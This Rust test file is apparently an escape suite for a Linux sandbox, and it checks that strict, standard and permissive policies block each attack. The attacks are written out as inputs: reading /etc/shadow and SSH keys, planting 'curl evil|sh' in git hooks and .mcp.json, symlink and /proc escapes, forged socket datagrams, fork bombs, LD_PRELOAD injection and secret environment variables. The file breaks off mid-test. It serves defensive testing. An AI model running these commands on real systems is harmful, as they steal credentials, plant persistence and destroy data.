//! The escape suite: one test per attack, under strict (and standard where it should hold).
//!
//! Each `escape_test!` runs twice with the same assertions (issue 34): `NAME::root` and
//! `NAME::nobody` (gateway as uid 65534, the test's tree given to it). Tests that loop over
//! both users themselves, or are about one user by nature, stay `sandbox_test!` and say why.
//!
//! Over 1,000 lines: one test per attack, each self-contained so it reads as its attack; split
//! by kind (filesystem, network, processes) when it grows further.

use crate::util::*;

escape_test! {
    fn escape_read_etc_shadow() {
        let env = Env::new("shadow");
        let host = std::fs::read_to_string("/etc/shadow")
            .expect("the test needs a readable /etc/shadow (root)");
        for policy in ["strict", "standard"] {
            let o = env.exec(policy, &["cat", "/etc/shadow"]);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            let first = host.lines().next().unwrap_or("root:");
            assert!(!stdout(&o).contains(first), "{policy} leaked /etc/shadow");
        }
    }
}

escape_test! {
    fn escape_read_ssh_key_in_home() {
        let env = Env::new("ssh");
        std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
        std::fs::write(env.home.join(".ssh/id_ed25519"), "PRIVATE-KEY-MATERIAL").expect("write");
        let key = env.home.join(".ssh/id_ed25519").display().to_string();
        for policy in ["strict", "standard", "permissive"] {
            let o = env.exec(policy, &["cat", &key]);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(
                !stdout(&o).contains("PRIVATE-KEY-MATERIAL"),
                "{policy} leaked the key"
            );
            let o = env.sh(policy, "cat ~/.ssh/id_ed25519; ls -a ~/.ssh");
            assert_stdout_lacks(&o, "PRIVATE-KEY-MATERIAL", &format!("{policy} leaked the key via ~"));
        }
    }
}

escape_test! {
    fn escape_read_file_outside_workspace() {
        let env = Env::new("readout");
        let f = env.outside.join("secret.txt");
        std::fs::write(&f, "OUTSIDE-SECRET").expect("write");
        let o = env.exec("strict", &["cat", &f.display().to_string()]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!stdout(&o).contains("OUTSIDE-SECRET"));
        let o = env.exec("strict", &["cat", "../outside/secret.txt"]);
        assert_stdout_lacks(&o, "OUTSIDE-SECRET", "..");
    }
}

escape_test! {
    fn escape_read_home_directory_under_strict() {
        let env = Env::new("home");
        std::fs::write(env.home.join("notes.txt"), "HOME-NOTES").expect("write");
        let o = env.sh("strict", "cat \"$0\"/notes.txt; ls \"$0\"");
        assert_stdout_lacks(&o, "HOME-NOTES", "");
        let o = env.exec(
            "strict",
            &["cat", &env.home.join("notes.txt").display().to_string()],
        );
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
    }
}

escape_test! {
    fn escape_write_outside_workspace() {
        let env = Env::new("writeout");
        let target = env.outside.join("planted");
        for policy in ["strict", "standard"] {
            let o = env.exec(policy, &["touch", &target.display().to_string()]);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(!target.exists(), "{policy} wrote outside the workspace");
            let o = env.sh(policy, "echo x > ../outside/planted2");
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(!env.outside.join("planted2").exists());
        }
    }
}

escape_test! {
    fn escape_write_global_tmp() {
        let env = Env::new("globaltmp");
        let target = format!("/tmp/gw-escape-{}", std::process::id());
        for policy in ["strict", "standard"] {
            let o = env.exec(policy, &["touch", &target]);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(
                !Path::new(&target).exists(),
                "{policy} wrote to the global /tmp"
            );
            // The private TMPDIR works, is not the global /tmp, and is private to the run: a file
            // written there is seen neither on the host nor by the next run.
            let o = env.sh(
                policy,
                "echo ok > \"$TMPDIR/gw-private\" && cat \"$TMPDIR/gw-private\" && echo \"$TMPDIR\"",
            );
            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            let tmpdir = stdout(&o).lines().nth(1).unwrap_or_default().to_string();
            assert!(tmpdir.starts_with("/tmp/") && tmpdir != "/tmp", "{tmpdir}");
            assert!(
                !Path::new(&tmpdir).join("gw-private").exists(),
                "TMPDIR file visible on the host"
            );
            let o = env.sh(policy, "ls -A \"$TMPDIR\"");
            assert_eq!(
                stdout(&o).trim(),
                "",
                "{policy}: the next run sees: {}",
                text(&o)
            );
        }
    }
}

escape_test! {
    fn escape_symlink_out_of_workspace() {
        let env = Env::new("symlink");
        std::fs::write(env.outside.join("secret"), "LINKED-SECRET").expect("write");
        std::os::unix::fs::symlink(&env.outside, env.ws.join("out")).expect("symlink");
        std::os::unix::fs::symlink("/etc/shadow", env.ws.join("shadow")).expect("symlink");
        for policy in ["strict", "standard"] {
            let o = env.exec(policy, &["cat", "shadow"]);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            let o = env.sh(policy, "echo pwned > out/planted");
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(!env.outside.join("planted").exists());
            // A symlink made inside the sandbox does not help either.
            let o = env.sh(policy, "ln -s /etc/shadow s2 && cat s2");
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
        }
        let o = env.exec("strict", &["cat", "out/secret"]);
        assert_stdout_lacks(&o, "LINKED-SECRET", "");
    }
}

escape_test! {
    fn escape_hardlink_creation() {
        let env = Env::new("hardlink");
        let secret = env.outside.join("secret");
        std::fs::write(&secret, "HARDLINK-SECRET").expect("write");
        for policy in ["strict", "standard"] {
            let o = env.sh(policy, &format!("ln {} hl && cat hl", secret.display()));
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert!(!stdout(&o).contains("HARDLINK-SECRET"));
            // Link a readable system file and write through the link: the original stays intact.
            let o = env.sh(policy, "ln /etc/hostname h2 && echo pwned >> h2");
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
        }
        assert_eq!(
            std::fs::read_to_string(&secret).expect("read"),
            "HARDLINK-SECRET"
        );
        assert!(
            !std::fs::read_to_string("/etc/hostname")
                .unwrap_or_default()
                .contains("pwned")
        );
    }
}

escape_test! {
    fn escape_proc_self_root() {
        let env = Env::new("procroot");
        for policy in ["strict", "standard"] {
            for p in [
                "/proc/self/root/etc/shadow",
                "/proc/1/root/etc/shadow",
                "/proc/self/cwd/../outside/x",
            ] {
                let o = env.exec(policy, &["cat", p]);
                assert_ne!(o.status.code(), Some(0), "{policy} {p}: {}", text(&o));
            }
        }
    }
}

escape_test! {
    fn escape_inherited_fd() {
        let env = Env::new("fd");
        let secret = env.outside.join("secret");
        std::fs::write(&secret, "FD-SECRET").expect("write");
        // The caller holds fd 5 open on a file outside; the sandboxed command may not use it.
        let gateway = env.gateway_argv().join(" ");
        let o = env
            .raw("sh")
            .arg("-c")
            .arg(format!(
                "exec 5<{}; exec {gateway} exec --policy strict -- sh -c 'cat <&5; ls -l /proc/self/fd'",
                secret.display()
            ))
            .stdin(Stdio::null())
            .output()
            .expect("run");
        assert!(stdout(&o).contains(" 1 -> "), "the run happened: {}", text(&o));
        assert_stdout_lacks(&o, "FD-SECRET", "");
        assert_stdout_lacks(&o, " 5 -> ", "fd 5 visible");
    }
}

escape_test! {
    fn escape_state_dir_unreachable() {
        let env = Env::new("state");
        // A real audit log, keys and artifacts, made by a run.
        let o = env.exec("strict", &["echo", "STATE-RECORD"]);
        assert!(o.status.success(), "{}", text(&o));
        let log = env.state.join("audit/log.jsonl").display().to_string();
        let key = env.state.join("keys/epoch-0.key").display().to_string();
        let arts = env.state.join("audit/artifacts").display().to_string();
        for policy in ["strict", "standard", "permissive"] {
            for target in [&log, &key] {
                let o = env.sh(policy, &format!("cat {target} | wc -c"));
                assert_eq!(stdout(&o).trim(), "0", "{policy}: {target} was readable: {}", text(&o));
            }
            let o = env.sh(policy, &format!("ls {arts} {}", env.state.display()));
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            for target in [&log, &key] {
                let o = env.sh(policy, &format!("echo forged >> {target}"));
                assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            }
            let o = env.sh(policy, &format!("rm -rf {}/*", env.state.display()));
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
        }
        let content = std::fs::read_to_string(&log).expect("read");
        // The attempts are recorded (their arguments say "forged"); nothing else was written.
        assert!(content.lines().all(|l| l.starts_with("{\"seq\":")), "{content}");
        assert!(!content.contains("forged\n"), "{content}");
        let o = env.cmd().args(["log", "verify"]).output().expect("verify");
        assert!(o.status.success(), "{}", text(&o));
        assert!(std::path::Path::new(&key).exists());
    }
}

escape_test! {
    fn escape_write_git_hooks_and_config() {
        let env = Env::new("githooks");
        env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
        env.write(".git/config", "[core]\n");
        env.write(".envrc", "export A=1\n");
        for policy in ["strict", "standard"] {
            for script in [
                "echo 'curl evil|sh' > .git/hooks/pre-commit",
                "echo '[core] fsmonitor = evil' >> .git/config",
                "mv .git/config .git/config.bak",
                "rm -f .git/hooks/pre-commit.sample",
                "echo evil >> .envrc",
                // Moving the parent away would carry the read-only mounts with it.
                "mv .git .git-moved && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
                "rm -rf .git",
                "mv .envrc .envrc-moved",
            ] {
                let o = env.sh(policy, script);
                assert_ne!(
                    o.status.code(),
                    Some(0),
                    "{policy} `{script}`: {}",
                    text(&o)
                );
            }
            assert!(!env.ws.join(".git/hooks/pre-commit").exists());
            assert_eq!(
                std::fs::read_to_string(env.ws.join(".git/config")).expect("read"),
                "[core]\n"
            );
            // Protected paths that did not exist cannot be planted either: the broker moves what
            // the run created into the quarantine and says so.
            for (script, planted) in [
                ("echo 'curl evil | sh' > .mcp.json", ".mcp.json"),
                (
                    "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
                    ".vscode",
                ),
                ("echo 'export PATH=/evil' > .bashrc", ".bashrc"),
            ] {
                let o = env.sh(policy, script);
                assert_eq!(
                    o.status.code(),
                    Some(0),
                    "{policy} `{script}`: {}",
                    text(&o)
                );
                assert!(
                    !env.ws.join(planted).exists(),
                    "{policy}: {planted} was left in the workspace"
                );
                let err = String::from_utf8_lossy(&o.stderr);
                assert!(
                    err.contains("created protected path") && err.contains(planted),
                    "{err}"
                );
            }
            let quarantined = std::fs::read_dir(env.state.join("quarantine"))
                .map(|d| d.count())
                .unwrap_or(0);
            assert!(quarantined >= 3, "{quarantined} quarantined");
            // The rest of .git and the workspace stay writable.
            let o = env.sh(policy, "echo ok > .git/description && echo ok > new.txt");
            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
        }
    }
}

escape_test! {
    fn escape_tcp_socket() {
        let env = Env::new("tcp");
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = listener.local_addr().expect("addr").port();
        let code = format!(
            "import socket\ns=socket.create_connection(('127.0.0.1',{port}),timeout=3)\nprint('CONNECTED')"
        );
        for policy in ["strict", "standard"] {
            let o = python(&env, policy, &code);
            assert_stdout_lacks(&o, "CONNECTED", policy);
            assert_ne!(o.status.code(), Some(0), "{policy}: {}", text(&o));
        }
        // strict: no socket at all.
        let o = python(
            &env,
            "strict",
            "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_STREAM)",
        );
        assert!(
            String::from_utf8_lossy(&o.stderr).contains("Operation not permitted"),
            "{}",
            text(&o)
        );
    }
}

escape_test! {
    fn escape_udp_socket() {
        let env = Env::new("udp");
        let o = python(
            &env,
            "strict",
            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x',('8.8.8.8',53))\nprint('SENT')",
        );
        assert_stdout_lacks(&o, "SENT", "");
        assert_ne!(o.status.code(), Some(0));
        // connect_tcp policies forbid UDP too.
        let p = env.policy_file("extends = \"strict\"\n[sandbox]\nnetwork = { connect_tcp = [443] }\n");
        let o = python(
            &env,
            &p,
            "import socket\ns=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nprint('UDP')",
        );
        assert_stdout_lacks(&o, "UDP", "");
    }
}

escape_test! {
    fn escape_raw_and_netlink_sockets() {
        let env = Env::new("raw");
        for policy in ["strict", "standard", "permissive"] {
            for (fam, ty) in [
                ("AF_INET", "SOCK_RAW"),
                ("AF_NETLINK", "SOCK_RAW"),
                ("AF_PACKET", "SOCK_RAW"),
            ] {
                let code = format!(
                    "import socket\ns=socket.socket(socket.{fam}, socket.{ty}, 0)\nprint('OPENED')"
                );
                let o = python(&env, policy, &code);
                assert_stdout_lacks(&o, "OPENED", &format!("{policy} {fam}"));
            }
        }
    }
}

escape_test! {
    fn escape_connect_tcp_port_restriction() {
        let env = Env::new("tcpport");
        let allowed = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let denied = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let ap = allowed.local_addr().expect("addr").port();
        let dp = denied.local_addr().expect("addr").port();
        let p = env.policy_file(&format!(
            "extends = \"strict\"\n[sandbox]\nnetwork = {{ connect_tcp = [{ap}] }}\n"
        ));
        let conn = |port: u16| {
            format!(
                "import socket\nsocket.create_connection(('127.0.0.1',{port}),timeout=3)\nprint('CONNECTED')"
            )
        };
        let o = python(&env, &p, &conn(ap));
        assert!(
            stdout(&o).contains("CONNECTED"),
            "allowed port: {}",
            text(&o)
        );
        let o = python(&env, &p, &conn(dp));
        assert_stdout_lacks(&o, "CONNECTED", "denied port");
        let o = python(
            &env,
            &p,
            "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nprint('LISTENING')",
        );
        assert_stdout_lacks(&o, "LISTENING", "bind");
    }
}

escape_test! {
    fn escape_unix_sockets_abstract_and_pathname() {
        let env = Env::new("unix");
        let path = env.outside.join("agent.sock");
        let _l1 = std::os::unix::net::UnixListener::bind(&path).expect("bind pathname");
        let name = format!("gw-test-{}", std::process::id());
        let _l2 = {
            use std::os::linux::net::SocketAddrExt;
            let addr =
                std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract");
            std::os::unix::net::UnixListener::bind_addr(&addr).expect("bind abstract")
        };
        for policy in ["strict", "standard", "permissive"] {
            let code = format!(
                "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect({:?})\nprint('CONNECTED')",
                path.display().to_string()
            );
            let o = python(&env, policy, &code);
            assert_stdout_lacks(&o, "CONNECTED", &format!("{policy} pathname"));
            let code = format!(
                "import socket\ns=socket.socket(socket.AF_UNIX)\ns.connect('\\0{name}')\nprint('CONNECTED')"
            );
            let o = python(&env, policy, &code);
            assert_stdout_lacks(&o, "CONNECTED", &format!("{policy} abstract"));
        }
        assert_attack_blocked("strict", "socket-unix", None);
        // socketpair stays available.
        let env = Env::new("socketpair");
        let a = env.attack();
        let o = env.exec("strict", &[&a, "socketpair"]);
        assert!(stdout(&o).contains("OK socketpair"), "{}", text(&o));
    }
}

/// Issue 22 item 6: every way a confined command could address a Unix socket it did not
/// create — datagram, raw (a datagram in AF_UNIX), seqpacket and stream socketpairs with
/// `sendto`, `sendmsg` and `connect`, and `socket(AF_UNIX)` — against the four sockets named
/// in argv (pathname datagram, pathname stream, abstract datagram, abstract stream). Prints one
/// line per attempt, then checks that stream and seqpacket pairs still work (what git, cargo,
/// npm and `multiprocessing.Pipe` use) and ends with `PROBE-DONE`.
const UNIX_PROBE: &str = r#"
import socket, sys, multiprocessing
dg, st, adg, ast = sys.argv[1], sys.argv[2], '\0' + sys.argv[3], '\0' + sys.argv[4]
U = socket.AF_UNIX
def attempt(name, f):
    try:
        f()
        print('sent', name)
    except OSError as e:
        print('refused', name, e.errno)
def pair(t):
    return socket.socketpair(U, t)[0]
for t in (socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
    n = str(int(t))
    for dest, label in ((dg, 'dgram-path'), (adg, 'dgram-abstract')):
        attempt(n + ' sendto ' + label, lambda: pair(t).sendto(b'FORGED', dest))
        attempt(n + ' sendmsg ' + label, lambda: pair(t).sendmsg([b'FORGED'], [], 0, dest))
        def conn_send():
            s = pair(t)
            s.connect(dest)
            s.send(b'FORGED')
        attempt(n + ' connect ' + label, conn_send)
    for dest, label in ((st, 'stream-path'), (ast, 'stream-abstract')):
        attempt(n + ' connect ' + label, lambda: pair(t).connect(dest))
attempt('socket sendto dgram-path', lambda: socket.socket(U, socket.SOCK_DGRAM).sendto(b'FORGED', dg))
attempt('socket connect stream-path', lambda: socket.socket(U, socket.SOCK_STREAM).connect(st))
attempt('socket connect stream-abstract', lambda: socket.socket(U, socket.SOCK_STREAM).connect(ast))
a, b = socket.socketpair()
a.sendall(b'ping')
assert b.recv(4) == b'ping'
a, b = socket.socketpair(U, socket.SOCK_SEQPACKET | socket.SOCK_NONBLOCK | socket.SOCK_CLOEXEC)
a.send(b'ping')
assert b.recv(4) == b'ping'
r, w = multiprocessing.Pipe()
w.send({'k': 1})
assert r.recv() == {'k': 1}
print('PROBE-DONE')
"#;

sandbox_test! {
    fn escape_unix_socket_on_the_host_via_socketpair() {
        // Issue 22 item 6: a datagram socketpair sent to any pathname datagram socket on the
        // host (journald, /dev/log, $NOTIFY_SOCKET: forged log entries) under every policy,
        // root or not; landlock does not mediate sendto/connect to a socket path. The test binds
        // the four kinds of socket a daemon might listen on, world-writable as journald's are,
        // and checks on the host side that none received a datagram or a connection.
        use std::os::linux::net::SocketAddrExt;
        use std::os::unix::net::{SocketAddr, UnixDatagram, UnixListener};
        // Every case is tried and reported (root and uid 65534, each policy) before failing.
        let mut failures = Vec::new();
        for nobody in [false, true] {
            for policy in ["strict", "standard", "permissive"] {
                let env = Env::new("unixhost");
                let dir = env.ws.join("sockets");
                std::fs::create_dir_all(&dir).expect("mkdir");
                let (dg_path, st_path) = (dir.join("dg.sock"), dir.join("st.sock"));
                let dg = UnixDatagram::bind(&dg_path).expect("bind datagram");
                let st = UnixListener::bind(&st_path).expect("bind stream");
                let tag = env.root.file_name().expect("name").to_string_lossy().into_owned();
                let (adg_name, ast_name) = (format!("{tag}-dg"), format!("{tag}-st"));
                let adg = UnixDatagram::bind_addr(
                    &SocketAddr::from_abstract_name(adg_name.as_bytes()).expect("abstract"),
                )
                .expect("bind abstract datagram");
                let ast = UnixListener::bind_addr(
                    &SocketAddr::from_abstract_name(ast_name.as_bytes()).expect("abstract"),
                )
                .expect("bind abstract stream");
                for p in [&dg_path, &st_path] {
                    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o777)).expect("chmod");
                }
                for s in [&dg, &adg] {
                    s.set_nonblocking(true).expect("nonblocking");
                }
                for l in [&st, &ast] {
                    l.set_nonblocking(true).expect("nonblocking");
                }
                if nobody {
                    env.give_to_nobody();
                }
                let (dgs, sts) = (dg_path.display().to_string(), st_path.display().to_string());
                let o = env
                    .as_user(nobody)
                    .args(["exec", "--policy", policy, "--", "python3", "-c", UNIX_PROBE])
                    .args([&dgs, &sts, &adg_name, &ast_name])
                    .output()
                    .expect("run gateway");
                let what = format!("{policy} nobody={nobody}");
                // The probe ran to its end: stream and seqpacket pairs still work.
                if !stdout(&o).contains("PROBE-DONE") {
                    failures.push(format!("{what}: the probe did not finish: {}", text(&o)));
                }
                let mut buf = [0u8; 64];
                for (s, name) in [(&dg, "pathname datagram"), (&adg, "abstract datagram")] {
                    match s.recv(&mut buf) {
                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                        got => failures.push(format!("{what}: the host's {name} socket received {got:?}")),
                    }
                }
                for (l, name) in [(&st, "pathname stream"), (&ast, "abstract stream")] {
                    match l.accept() {
                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                        got => failures.push(format!("{what}: the host's {name} socket accepted {got:?}")),
                    }
                }
                // Every datagram attempt was refused by the sandbox, not merely lost. (A seqpacket
                // pair ignores the address and sends to its own peer; a stream pair refuses it.)
                for line in stdout(&o).lines().filter(|l| l.starts_with("sent")) {
                    if !line.starts_with("sent 5 sendto") && !line.starts_with("sent 5 sendmsg") {
                        failures.push(format!("{what}: {line}"));
                    }
                }
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }
}

escape_test! {
    fn escape_strict_proc_net_lists_the_hosts_sockets() {
        // Issue 22 item 6: strict (network none) had no network namespace, so its own /proc
        // still showed the host's network state: /proc/net/unix listed every socket on the
        // machine (the daemons to aim at). Now `none` gets an empty network namespace too,
        // for every user (issue 34: a normal user's run read the host's list).
        use std::os::linux::net::SocketAddrExt;
        let env = Env::new("procnet");
        let name = format!("gw-procnet-{}", std::process::id());
        let _l = std::os::unix::net::UnixListener::bind_addr(
            &std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).expect("abstract"),
        )
        .expect("bind abstract");
        let host = std::fs::read_to_string("/proc/net/unix").expect("read /proc/net/unix");
        assert!(host.contains(&name), "the host lists its sockets: {host}");
        for policy in ["strict", "standard"] {
            let o = env.cmd()
                .args(["--json", "exec", "--policy", policy, "--", "cat", "/proc/net/unix", "/proc/net/tcp"])
                .output()
                .expect("run gateway");
            let v = json_of(&o);
            assert_eq!(v["exit_code"], 0, "{policy}: {v}");
            let listed = v["stdout"].as_str().expect("stdout");
            assert!(listed.contains("Inode Path"), "{policy}: {v}");
            assert!(!listed.contains(&name), "{policy} lists the host's sockets: {v}");
            assert_eq!(v["enforcement"]["net_namespace"], true, "{policy}: {v}");
        }
    }
}

escape_test! {
    fn standard_loopback_is_private_and_works() {
        let env = Env::new("loopback");
        let code = "import socket\ns=socket.socket()\ns.bind(('127.0.0.1',0))\ns.listen()\nc=socket.create_connection(s.getsockname())\na,_=s.accept()\nc.send(b'ping')\nprint(a.recv(4).decode())";
        let o = python(&env, "standard", code);
        assert_eq!(stdout(&o).trim(), "ping", "{}", text(&o));
    }
}

escape_test! {
    fn escape_signal_outside_process() {
        let mut victim = Outside::sleep("x");
        for policy in ["strict", "standard"] {
            assert_attack_blocked(policy, "kill", Some(&victim.pid()));
            let env = Env::new("kill");
            let _ = env.exec(policy, &["kill", "-9", &victim.pid()]);
            assert!(victim.alive(), "{policy}: the outside process was killed");
        }
    }
}

escape_test! {
    fn escape_ptrace_outside_process() {
        let victim = Outside::sleep("x");
        for policy in ["strict", "standard", "permissive"] {
            assert_attack_blocked(policy, "ptrace", Some(&victim.pid()));
            assert_attack_blocked(policy, "ptrace-seize", Some(&victim.pid()));
        }
        // ptrace of a process inside the sandbox is denied too (seccomp, not only pid visibility).
        let env = Env::new("ptrace-in");
        let a = env.attack();
        let o = env.sh("strict", &format!("sleep 30 & {a} ptrace $!"));
        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
    }
}

escape_test! {
    fn escape_proc_of_outside_process() {
        let victim = Outside::sleep("OUTSIDE-ENV-SECRET");
        let pid = victim.pid();
        let env = Env::new("procpid");
        for policy in ["strict", "standard", "permissive"] {
            for f in ["environ", "cmdline", "mem", "maps"] {
                let o = env.exec(policy, &["cat", &format!("/proc/{pid}/{f}")]);
                assert_ne!(o.status.code(), Some(0), "{policy} {f}: {}", text(&o));
                assert!(!stdout(&o).contains("OUTSIDE-ENV-SECRET"));
            }
            // The pid namespace shows only the sandbox's own processes.
            let o = env.sh(policy, "ls /proc | grep -E '^[0-9]+$' | wc -l");
            let n: usize = stdout(&o).trim().parse().unwrap_or(999);
            assert!(n < 10, "{policy}: {n} processes visible: {}", text(&o));
        }
    }
}

escape_test! {
    fn escape_namespaces_and_mounts() {
        for policy in ["strict", "standard", "permissive"] {
            for mode in [
                "mount",
                "umount",
                "chroot",
                "unshare-user",
                "unshare-ns",
                "unshare-net",
                "setns",
                "clone-newuser",
                "clone3",
            ] {
                assert_attack_blocked(policy, mode, None);
            }
        }
    }
}

escape_test! {
    fn escape_dangerous_syscalls() {
        for policy in ["strict", "standard", "permissive"] {
            for mode in [
                "io_uring",
                "bpf",
                "keyctl",
                "add_key",
                "perf",
                "userfaultfd",
                "personality",
                "open_by_handle",
                "x32-getpid",
            ] {
                assert_attack_blocked(policy, mode, None);
            }
        }
        let victim = Outside::sleep("x");
        assert_attack_blocked("strict", "x32-ptrace", Some(&victim.pid()));
    }
}

// Root only: a control that the fixture detects escapes when run unconfined with root's
// capabilities (mknod, perf, userfaultfd need them); uid 65534 would be refused by the kernel.
#[test]
fn attack_fixture_detects_escapes_when_not_confined() {
    // The same fixture, run directly (as root, unconfined), reports ESCAPED: the suite can fail.
    if skip() {
        return;
    }
    for mode in ["keyctl", "userfaultfd", "perf", "socket-unix"] {
        let o = Command::new(attack_bin())
            .arg(mode)
            .output()
            .expect("run attack");
        assert!(
            stdout(&o).contains("ESCAPED"),
            "{mode} unconfined: {}",
            text(&o)
        );
    }
    let env = Env::new("fixture");
    let o = Command::new(attack_bin())
        .arg("mknod")
        .current_dir(&env.ws)
        .output()
        .expect("run");
    assert!(
        stdout(&o).contains("ESCAPED"),
        "mknod unconfined: {}",
        text(&o)
    );
    // And the gateway reports a non-zero exit when a confined command fails.
    let o = env.exec("strict", &["false"]);
    assert_eq!(o.status.code(), Some(1));
}

escape_test! {
    fn escape_tiocsti_under_a_pty() {
        let env = Env::new("tiocsti");
        let a = env.attack();
        for mode in ["tiocsti", "tiocsti-highbits"] {
            // python's pty module gives the gateway (and so the sandbox) a terminal as stdin.
            let o = env
                .raw("python3")
                .args([
                    "-c",
                    "import pty,sys; sys.exit(pty.spawn(sys.argv[1:]) >> 8)",
                ])
                .args(env.gateway_argv())
                .args(["exec", "--policy", "strict", "--", &a, mode])
                .output()
                .expect("run under pty");
            assert!(stdout(&o).contains("BLOCKED"), "{mode}: {}", text(&o));
            assert_stdout_lacks(&o, "ESCAPED", mode);
        }
    }
}

escape_test! {
    fn escape_mknod_and_capabilities() {
        for policy in ["strict", "standard", "permissive"] {
            assert_attack_blocked(policy, "mknod", None);
            assert_attack_blocked(policy, "caps", None);
            assert_attack_blocked(policy, "setuid", None);
        }
        let env = Env::new("caps");
        let f = env.write("locked", "LOCKED-CONTENT");
        std::fs::set_permissions(&f, std::fs::Permissions::from_mode(0o000)).expect("chmod");
        // CAP_DAC_OVERRIDE: root without it cannot read a mode-000 file.
        let o = env.exec("strict", &["cat", "locked"]);
        assert_stdout_lacks(&o, "LOCKED-CONTENT", "");
        assert_ne!(o.status.code(), Some(0));
        // CAP_CHOWN.
        let a = env.attack();
        let o = env.exec("strict", &[&a, "chown", "locked"]);
        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
        // CAP_NET_RAW (also seccomp): ping needs a raw or ICMP socket.
        let o = env.exec("standard", &["python3", "-c", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\nprint('RAW')"]);
        assert_stdout_lacks(&o, "RAW", "");
    }
}

escape_test! {
    fn escape_timeout_by_setsid() {
        let env = Env::new("setsid");
        let marker = format!("1{}.25", std::process::id());
        let o = env
            .cmd()
            .args([
                "exec",
                "--policy",
                "strict",
                "--timeout",
                "1",
                "--",
                "sh",
                "-c",
            ])
            .arg(format!(
                "setsid sleep {marker} & setsid sh -c 'sleep {marker}' & sleep {marker}"
            ))
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(124), "{}", text(&o));
        assert_no_survivors(&marker, "setsid");
    }
}

escape_test! {
    fn escape_background_survivor() {
        let env = Env::new("bg");
        let marker = format!("2{}.5", std::process::id());
        for policy in ["strict", "standard"] {
            let o = env.sh(
                policy,
                &format!("nohup sleep {marker} >/dev/null 2>&1 & (setsid sleep {marker} &) ; (sleep {marker} & ) ; echo started"),
            );
            assert_eq!(o.status.code(), Some(0), "{policy}: {}", text(&o));
            assert_no_survivors(&marker, policy);
        }
    }
}

escape_test! {
    fn escape_fork_bomb() {
        let env = Env::new("forkbomb");
        // The fixture's bomb hits the process limit.
        let a = env.attack();
        let o = env.exec("strict", &[&a, "forkbomb"]);
        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
        // A shell fork bomb is contained and killed at the timeout, leaving nothing behind.
        let o = env
            .cmd()
            .args([
                "exec",
                "--policy",
                "strict",
                "--timeout",
                "3",
                "--",
                "sh",
                "-c",
                "bomb() { bomb | bomb & }; bomb",
            ])
            .output()
            .expect("run");
        assert!(
            matches!(o.status.code(), Some(124) | Some(0)),
            "{}",
            text(&o)
        );
        // The bomb's shells run `sh -c ... bomb ...`; none may remain.
        assert_no_survivors("bomb | bomb", "fork bomb");
    }
}

escape_test! {
    fn escape_memory_hog() {
        let env = Env::new("memhog");
        let p = env.policy_file("extends = \"strict\"\n[sandbox.limits]\nmemory = \"512MiB\"\n");
        let a = env.attack();
        let o = env.exec(&p, &[&a, "memhog"]);
        assert!(stdout(&o).contains("BLOCKED"), "{}", text(&o));
        let o = env.exec(
            &p,
            &[
                "python3",
                "-c",
                "x = bytearray(2 * 1024**3)\nprint('ALLOCATED')",
            ],
        );
        assert_stdout_lacks(&o, "ALLOCATED", "");
        assert_ne!(o.status.code(), Some(0));
    }
}

escape_test! {
    fn escape_scrubbed_env_and_ld_preload() {
        let env = Env::new("envscrub");
        let lib_src = env.root.join("inject.c");
        std::fs::write(&lib_src, "#define _GNU_SOURCE\n#include <errno.h>\n#include <stdio.h>\n__attribute__((constructor)) static void i(void){ fprintf(stderr, \"INJECTED into %s\\n\", program_invocation_short_name); }\n").expect("write");
        let lib = env.outside.join("inject.so");
        gcc(&lib_src, &lib, &["-shared", "-fPIC"]);
        for policy in ["strict", "standard", "permissive"] {
            let o = env
                .cmd()
                .args(["exec", "--policy", policy, "--", "env"])
                .env("GITHUB_TOKEN", "ghp_SECRETVALUE1")
                .env("AWS_SECRET_ACCESS_KEY", "AWSSECRETVALUE2")
                .env("DB_PASSWORD", "PASSWORDVALUE3")
                .env("MY_API_KEY", "APIKEYVALUE4")
                .env("SSH_AUTH_SOCK", "/tmp/agent.sock")
                .env("LD_PRELOAD", &lib)
                .env("BASH_ENV", "/tmp/evil")
